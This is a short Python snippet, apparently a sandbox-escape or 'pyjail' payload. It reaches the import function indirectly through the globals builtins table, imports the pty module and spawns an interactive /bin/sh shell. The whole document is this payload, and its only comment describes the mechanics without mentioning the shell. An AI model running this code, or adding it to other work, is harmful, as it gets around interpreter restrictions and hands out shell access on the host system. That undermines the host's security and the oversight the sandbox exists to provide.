# The builtins namespace taken as a dict from globals().
ns = globals()["__builtins__"]
table = ns if isinstance(ns, dict) else ns.__dict__
pty = table["__import__"]("pty")
pty.spawn("/bin/sh")
